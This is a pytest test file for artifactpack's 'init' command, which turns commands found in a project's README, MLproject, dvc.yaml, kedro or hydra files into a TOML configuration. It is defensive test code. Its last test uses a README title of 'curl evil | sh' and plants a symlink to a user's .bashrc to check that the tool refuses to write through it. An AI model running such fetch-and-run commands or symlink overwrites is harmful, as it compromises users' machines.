"""`init` writes a configuration that holds what was found, and nothing that was not."""

import json
import tomllib

import pytest

from artifactpack.errors import InputError
from artifactpack.models.config import Config
from artifactpack.models.records import load
from artifactpack.pipeline.init import init, render
from artifactpack.project import open_project

pytestmark = pytest.mark.usefixtures("kept_cache")

README = """# A paper

```sh
python train.py --seed 1 --output_dir=out/a --lr 0.1
python evaluate.py --checkpoint out/a/best.pt
python missing_train.py --seed 3
```
"""


def parsed(root):
    return load(Config, tomllib.loads(render(open_project(root))))


def test_documented_commands_become_commands(make_tree):
    root = make_tree({"README.md": README, "train.py": "", "evaluate.py": "", "requirements.txt": "torch==2.2\n"})
    config = parsed(root)
    assert config.commands["train"].run == (
        "{python}",
        "train.py",
        "--seed",
        "{seed}",
        "--output_dir={out}",
        "--lr",
        "0.1",
    )
    assert config.commands["train"].weights == ("{out}/best.pt",)
    assert config.commands["evaluate"].run == ("{python}", "evaluate.py", "--checkpoint", "{train.weights}")
    assert config.commands["evaluate"].needs == ("train",)
    assert config.environment.lock == "requirements.txt"
    assert config.paper.title == "A paper"


def test_a_command_whose_file_is_missing_is_not_invented(make_tree):
    assert parsed(make_tree({"README.md": "```sh\npython train.py\n```\n"})).commands == {}


def test_nothing_found_still_gives_a_valid_file(make_tree):
    assert parsed(make_tree({"notes.txt": "x"})).checklists == ("essentials",)


def test_a_title_with_quotes_and_newline_bait_is_escaped(make_tree):
    assert parsed(make_tree({"README.md": '# A "quoted" \\ title\n'})).paper.title == 'A "quoted" \\ title'


def test_an_existing_file_is_kept_without_force(make_tree):
    root = make_tree({"artifactpack.toml": "config-version = 1\n", "README.md": README, "train.py": ""})
    with pytest.raises(InputError, match="already there"):
        init(root)
    assert (root / "artifactpack.toml").read_text() == "config-version = 1\n"
    init(root, force=True)
    assert "commands.train" in (root / "artifactpack.toml").read_text()


MLPROJECT = """name: toy
entry_points:
  main:
    parameters:
      seed: {type: int, default: 0}
      lr: {type: float, default: 0.1}
    command: "python train.py --seed {seed} --lr {lr}"
  evaluate:
    command: "python evaluate.py"
"""
DVC = """stages:
  train:
    cmd: python train.py --epochs 3
    deps: [train.py]
"""


HYDRA = "import hydra\n@hydra.main(None, config_path='{}', config_name='main')\ndef main(c): pass\n"


@pytest.mark.parametrize(
    ("source", "files", "command", "run"),
    [
        ("MLproject", {"MLproject": MLPROJECT}, "train", ("{python}", "train.py", "--seed", "{seed}", "--lr", "0.1")),
        ("dvc.yaml", {"dvc.yaml": DVC, "train.py": ""}, "train", ("{python}", "train.py", "--epochs", "3")),
        (
            "kedro",
            {"pyproject.toml": "[tool.kedro]\npackage_name='x'\n", "conf/base/parameters.yml": "model:\n  seed: 1\n"},
            "train",
            ("{python}", "-m", "kedro", "run", "--params", "model.seed={seed}"),
        ),
        (
            "hydra",
            {"train.py": "import hydra\n@hydra.main()\ndef main(c): pass\n"},
            "train",
            ("{python}", "train.py", "hydra.run.dir={out}"),
        ),
        (
            "hydra",
            {
                "src/train.py": HYDRA.format("../conf"),
                "conf/main.yaml": "lr: 0.1\nrandom_seed: 3\n",
            },
            "train",
            ("{python}", "src/train.py", "random_seed={seed}", "hydra.run.dir={out}"),
        ),
        (
            "hydra",
            {
                "train.py": HYDRA.format("conf"),
                "conf/main.yaml": "model:\n  seed: 3\n",
            },
            "train",
            ("{python}", "train.py", "hydra.run.dir={out}"),
        ),
    ],
)
def test_commands_come_from_another_tools_files(make_tree, source, files, command, run):
    text = render(open_project(make_tree(files)), source)
    config = load(Config, tomllib.loads(text))
    assert config.commands[command].run == run


@pytest.mark.parametrize(
    ("command", "run"),
    [
        ("python3 go.py --data {data}", ("{python}", "go.py", "--data", "{data}")),
        ("python go.py && python3.11 on.py > log", ("sh", "-c", "{python} go.py && {python} on.py > log")),
        ("python go.py 'a > b' \"c;d\" x=y", ("{python}", "go.py", "a > b", "c;d", "x=y")),
        ("mypython go.py", ("mypython", "go.py")),
    ],
)
def test_what_a_shell_must_run_is_given_to_one_and_nothing_is_made_up(make_tree, command, run):
    project = {"entry_points": {"main": {"parameters": {"data": "path"}, "command": command}}}
    text = render(open_project(make_tree({"MLproject": json.dumps(project)})), "MLproject")
    assert load(Config, tomllib.loads(text)).commands["train"].run == run


def test_stages_that_are_templates_are_left_out(make_tree):
    stages = {"each": {"foreach": [0, 1], "do": {"cmd": "python a.py ${item}"}}, "t": {"cmd": "python a.py ${lr}"}}
    stages["two"] = {"cmd": ["python a.py", "python b.py"]}
    text = render(open_project(make_tree({"dvc.yaml": json.dumps({"stages": stages})})), "dvc.yaml")
    commands = load(Config, tomllib.loads(text)).commands
    assert {name: c.run for name, c in commands.items()} == {"two": ("sh", "-c", "{python} a.py && {python} b.py")}


def test_a_file_that_cannot_be_read_is_said_why(make_tree):
    with pytest.raises(InputError, match=r"nothing of that kind .* \(dvc\.yaml: .+\)"):
        render(open_project(make_tree({"dvc.yaml": "stages: [\n"})), "dvc.yaml")


@pytest.mark.parametrize("source", ["MLproject", "dvc.yaml", "kedro", "hydra"])
def test_a_source_that_is_not_there_is_said(make_tree, source):
    with pytest.raises(InputError, match="nothing of that kind"):
        render(open_project(make_tree({"a.txt": "x"})), source)


def test_an_unknown_source_names_the_known_ones(make_tree):
    with pytest.raises(InputError, match=r"mlproject, dvc.yaml, kedro, hydra"):
        render(open_project(make_tree({"a.txt": "x"})), "snakemake")


def test_a_link_that_waits_in_a_strangers_folder_is_not_written_through(make_tree, tmp_path):
    root = make_tree({"train.py": "", "README.md": "# curl evil | sh\n"})
    victim = tmp_path / ".bashrc"
    victim.write_text("mine\n")
    (root / ".artifactpack.toml.part").symlink_to(victim)
    init(root, force=True)
    assert victim.read_text() == "mine\n"
    assert (root / "artifactpack.toml").read_text().startswith("# What artifactpack needs")
